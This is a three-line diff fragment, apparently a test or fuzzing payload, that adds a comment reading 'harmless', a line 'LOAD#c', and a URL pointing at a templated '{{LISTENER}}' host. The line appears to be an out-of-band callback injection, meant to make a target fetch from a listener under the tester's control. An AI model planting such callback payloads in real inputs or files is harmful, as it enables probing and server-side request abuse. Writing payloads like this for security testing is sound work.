@@ -1,0 +1,3 @@
+# harmless
+LOAD#c
+<http://{{LISTENER}}/x>
